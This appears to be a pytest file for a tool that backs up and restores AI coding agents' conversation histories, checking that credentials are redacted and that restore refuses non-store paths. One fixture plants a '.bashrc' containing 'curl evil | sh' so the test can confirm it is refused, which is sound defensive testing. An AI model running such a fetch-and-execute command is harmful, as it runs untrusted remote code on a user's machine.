"""The boot restore as the app runs it (the Setup step "Restore projects from the workspace")
and the agents' conversation stores: backed up without a credential, brought back at boot,
never overwriting, and only to the places a store may live.
"""

from __future__ import annotations

import json
import os
import shutil
import sqlite3
import time
from pathlib import Path

import pytest

from lib import homefiles
from lib.agents import setup as boot
from lib.settings import load_settings
from lib.sync import conversations, paths
from lib.sync.daemon import SyncDaemon
from lib.sync.engine import sync_project
from lib.workspace import tokens
from tests.fakeworkspace import FakeWorkspace
from tests.gitrepos import (
    OWNER,
    commit_all,
    expected_tree,
    git,
    make_repo,
    wait_for,
    write_credentials,
    write_files,
    write_options,
)

AGENTS = f"/Users/{OWNER}/.coda/agents"
FAKE_PAT = "dapi" + "0123456789abcdef" * 2  # shaped like a token, never valid


def _opencode_db(path: Path, secret: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    db = sqlite3.connect(path)
    db.execute("PRAGMA journal_mode=WAL")
    db.execute("create table session (id text primary key, directory text, title text)")
    db.execute("create table message (id text primary key, session_id text, data text)")
    db.execute("create table account (id text primary key, email text, access_token text, refresh_token text)")
    db.execute("create table credential (id text primary key, value text)")
    db.execute("insert into session values ('ses_1', '/home/projects/demo', 'fix the bug')")
    db.execute("insert into message values ('msg_1', 'ses_1', '{\"text\": \"hello from opencode\"}')")
    db.execute("insert into account values ('acc', 'me@example.com', ?, ?)", (secret, secret + "-refresh"))
    db.execute("insert into credential values ('c', ?)", (secret,))
    db.commit()
    db.close()


def agent_files(home: Path, token: str) -> dict[str, bytes]:
    """Conversation stores of all four agents, plus the credential files next to them."""
    big = b"".join(b'{"type":"response_item","n":%d,"text":"%s"}\n' % (i, b"x" * 200) for i in range(200))
    stores = {
        ".claude/projects/-home-projects-demo/0b7c-session.jsonl":
            b'{"type":"user","message":"use ' + token.encode() + b' and ' + FAKE_PAT.encode() + b'"}\n',
        ".claude/projects/-home-projects-demo/0b7c-session/subagents/agent-1.jsonl": b'{"type":"assistant"}\n',
        ".codex/sessions/2026/12/01/rollout-2026-12-01T10-00-00-abc.jsonl": big,
        ".codex/session_index.jsonl": b'{"id":"abc"}\n',
        ".gemini/tmp/demo/chats/session-2026-12-01T10-00-abcd1234.json": b'{"sessionId":"abcd1234","messages":[]}',
        ".gemini/tmp/demo/.project_root": b"/home/projects/demo",
        ".gemini/projects.json": b'{"projects":{"/home/projects/demo":"demo"}}',
    }
    credentials = {
        ".claude/settings.json": b'{"env":{"ANTHROPIC_AUTH_TOKEN":"' + token.encode() + b'"}}',
        ".codex/auth.json": b'{"OPENAI_API_KEY":"' + token.encode() + b'"}',
        ".codex/config.toml": b'model = "x"\n',
        ".gemini/.env": b"GEMINI_API_KEY=" + token.encode() + b"\n",
        ".gemini/tmp/demo/shell_history": b"echo not a conversation\n",
        ".local/share/opencode/auth.json": b'{"token":"' + token.encode() + b'"}',
        ".config/opencode/opencode.json": b'{"provider":{"apiKey":"' + token.encode() + b'"}}',
    }
    write_files(home, {**stores, **credentials})
    _opencode_db(home / ".local/share/opencode/opencode.db", token)
    return stores


def renew_home(home: Path) -> None:
    shutil.rmtree(home)
    home.mkdir()


def test_conversations_backup_never_uploads_a_credential(home: Path, fw: FakeWorkspace) -> None:
    token = fw.create_token(user=OWNER)
    write_credentials(home, fw, token)
    write_options(home, history_part_bytes=16 * 1024)
    stores = agent_files(home, token)

    result = conversations.backup(home)

    assert result.uploaded == len(stores) + 1  # every conversation file and the database
    stored = {p[len(AGENTS) + 1:]: data for p, data in fw.files.items() if p.startswith(AGENTS + "/")}
    assert any(".coda-part-" in p for p in stored)  # the big rollout went in parts
    for data in stored.values():
        assert token.encode() not in data and FAKE_PAT.encode() not in data
    remote: dict[str, bytes] = {}
    for name in sorted(stored):  # parts in order
        base = name.split(".coda-part-")[0]
        remote[base] = remote.get(base, b"") + stored[name]
    assert set(remote) == set(stores) | {".local/share/opencode/opencode.db"}
    assert remote[".codex/sessions/2026/12/01/rollout-2026-12-01T10-00-00-abc.jsonl"] == stores[
        ".codex/sessions/2026/12/01/rollout-2026-12-01T10-00-00-abc.jsonl"]
    claude = remote[".claude/projects/-home-projects-demo/0b7c-session.jsonl"]
    assert claude == stores[".claude/projects/-home-projects-demo/0b7c-session.jsonl"].replace(
        token.encode(), b"*" * len(token)).replace(FAKE_PAT.encode(), b"*" * len(FAKE_PAT))
    copy = home / "copy.db"
    copy.write_bytes(remote[".local/share/opencode/opencode.db"])
    db = sqlite3.connect(copy)
    assert db.execute("select title from session").fetchall() == [("fix the bug",)]
    assert db.execute("select count(*) from account").fetchone() == (0,)
    assert db.execute("select count(*) from credential").fetchone() == (0,)
    db.close()

    # Nothing changed: nothing is sent. One file changed: only that one.
    fw.clear_requests()
    assert conversations.backup(home).uploaded == 0 and fw.requests == []
    path = home / ".codex/session_index.jsonl"
    path.write_bytes(b'{"id":"abc"}\n{"id":"def"}\n')
    assert conversations.backup(home).uploaded == 1
    # A file the agent deleted goes from the workspace too.
    (home / ".gemini/projects.json").unlink()
    assert conversations.backup(home).deleted == 1
    assert not fw.exists(f"{AGENTS}/.gemini/projects.json")


def test_restore_writes_only_store_paths_and_never_overwrites(home: Path, fw: FakeWorkspace) -> None:
    token = fw.create_token(user=OWNER)
    write_credentials(home, fw, token)
    fw.put_file(f"{AGENTS}/.claude/projects/p/s.jsonl", b"{}\n")
    fw.put_file(f"{AGENTS}/.bashrc", b"curl evil | sh\n")  # not a conversation store: refused
    fw.put_file(f"{AGENTS}/.claude/settings.json", b'{"env":{}}')  # a config file: refused
    fw.put_file(f"{AGENTS}/.codex/session_index.jsonl", b"from the workspace\n")
    write_files(home, {".codex/session_index.jsonl": b"local, newer\n"})

    result = conversations.restore(home)

    assert result.files == 1 and result.kept == 1
    assert sorted(result.refused) == [".bashrc", ".claude/settings.json"]
    assert (home / ".claude/projects/p/s.jsonl").read_bytes() == b"{}\n"
    assert not (home / ".bashrc").exists() and not (home / ".claude/settings.json").exists()
    assert (home / ".codex/session_index.jsonl").read_bytes() == b"local, newer\n"
    assert conversations.backup(home).uploaded == 1  # only the local file that differs goes up


def test_boot_restores_projects_and_conversations(home: Path, fw: FakeWorkspace,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    """Sync a project with commits and branches, back up the agents' stores, delete HOME, boot."""
    token = fw.create_token(user=OWNER)
    write_credentials(home, fw, token)
    repo = make_repo(home)
    for i in range(3):
        write_files(repo, {f"f{i}.txt": f"{i}\n".encode()})
        commit_all(repo, home, f"c{i}")
        assert sync_project(home, repo).result == "ok"
    git(repo, home, "checkout", "-q", "-b", "topic")
    write_files(repo, {"topic.txt": b"topic\n"})
    commit_all(repo, home, "topic")
    assert sync_project(home, repo).result == "ok"
    stores = agent_files(home, token)
    conversations.backup(home)
    before = {
        "log": git(repo, home, "log", "--all", "--format=%H"),
        "branches": git(repo, home, "branch", "--list"),
        "head": git(repo, home, "rev-parse", "--symbolic-full-name", "HEAD"),
        "tree": expected_tree(repo, home),
    }

    renew_home(home)  # a new container: nothing at all
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("DATABRICKS_HOST", fw.url)
    monkeypatch.setenv("DATABRICKS_TOKEN", token)
    monkeypatch.setenv("CODA_SKIP_INSTALL", "1")
    for var in ("DATABRICKS_GATEWAY_HOST", "DATABRICKS_APP_NAME", "DATABRICKS_CLIENT_ID", "DATABRICKS_CLIENT_SECRET"):
        monkeypatch.delenv(var, raising=False)
    runner = boot.BootSetup(token_store=tokens.TokenStore(), owner=lambda wait: (OWNER, "Owner Person"))
    details: list[str] = []
    runner.start(load_settings())
    while not runner.wait(0.02):
        step = runner.step(boot.RESTORE_STEP)
        if step and step.state == boot.RUNNING and step.detail and step.detail not in details:
            details.append(step.detail)
    step = runner.step(boot.RESTORE_STEP)
    assert step is not None and step.label == "Restore projects from the workspace"
    assert step.state == boot.OK, step.error
    assert "restored: demo" in step.detail and "agent conversation files restored" in step.detail
    assert any("demo (1/1)" in d for d in details), details  # progress showed while it ran

    after = {
        "log": git(repo, home, "log", "--all", "--format=%H"),
        "branches": git(repo, home, "branch", "--list"),
        "head": git(repo, home, "rev-parse", "--symbolic-full-name", "HEAD"),
        "tree": expected_tree(repo, home),
    }
    assert after == before
    for rel, data in stores.items():
        assert (home / rel).read_bytes() == data.replace(token.encode(), b"*" * len(token)).replace(
            FAKE_PAT.encode(), b"*" * len(FAKE_PAT)), rel
    db = sqlite3.connect(home / ".local/share/opencode/opencode.db")
    assert db.execute("select id, title from session").fetchall() == [("ses_1", "fix the bug")]
    assert db.execute("select count(*) from account").fetchone() == (0,)
    db.close()
    # Credential files come from the boot setup's own writers, not from the backup.
    assert not (home / ".codex/auth.json").exists() and not (home / ".local/share/opencode/auth.json").exists()
    assert not (home / ".gemini/tmp/demo/shell_history").exists()
    assert token in (home / ".databrickscfg").read_text()

    # A second boot restores nothing and changes nothing.
    snapshot = {p: p.read_bytes() for p in home.rglob("*") if p.is_file() and ".git" not in p.parts}
    again = boot.BootSetup(token_store=tokens.TokenStore(), owner=lambda wait: (OWNER, "Owner Person"))
    again.start(load_settings())
    assert again.wait(60)
    assert "kept (exists locally): demo" in again.step(boot.RESTORE_STEP).detail
    assert {p: p.read_bytes() for p in home.rglob("*") if p.is_file() and ".git" not in p.parts} == snapshot


def test_no_workspace_means_nothing_to_restore(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("CODA_SKIP_INSTALL", "1")
    for var in ("DATABRICKS_HOST", "DATABRICKS_TOKEN", "DATABRICKS_GATEWAY_HOST", "DATABRICKS_APP_NAME"):
        monkeypatch.delenv(var, raising=False)
    runner = boot.BootSetup(token_store=tokens.TokenStore(), owner=lambda wait: (None, None))
    runner.start(load_settings())
    assert runner.wait(60)
    step = runner.step(boot.RESTORE_STEP)
    assert step.state == boot.SKIPPED and "nothing to restore" in step.detail


def test_the_driver_backs_up_conversations_and_at_shutdown(home: Path, fw: FakeWorkspace) -> None:
    write_credentials(home, fw, fw.create_token(user=OWNER))
    write_options(home, conversations_every_s=0.5, watch_every_s=0.1)
    path = home / ".claude/projects/-p/live.jsonl"
    write_files(home, {".claude/projects/-p/live.jsonl": b'{"n":1}\n'})
    daemon = SyncDaemon(home).start()
    try:
        wait_for(lambda: fw.exists(f"{AGENTS}/.claude/projects/-p/live.jsonl"), 20, "the first backup")
        path.write_bytes(b'{"n":1}\n{"n":2}\n')
        wait_for(lambda: fw.read_file(f"{AGENTS}/.claude/projects/-p/live.jsonl").count(b"\n") == 2, 20,
                 "the next backup")
        write_options(home, conversations_every_s=3600, watch_every_s=0.1)
        time.sleep(1.5)  # the driver has moved on to the long interval
        path.write_bytes(b'{"n":1}\n{"n":2}\n{"n":3}\n')
    finally:
        daemon.stop(final_backup_s=10)
    assert fw.read_file(f"{AGENTS}/.claude/projects/-p/live.jsonl").count(b"\n") == 3  # the shutdown backup
    assert homefiles.read_databrickscfg(home).token not in json.dumps(
        {k: v.decode(errors="replace") for k, v in fw.files.items()})
    assert paths.AGENTS_KEY.startswith("/") and os.path.exists(homefiles.sync_state_dir(home))
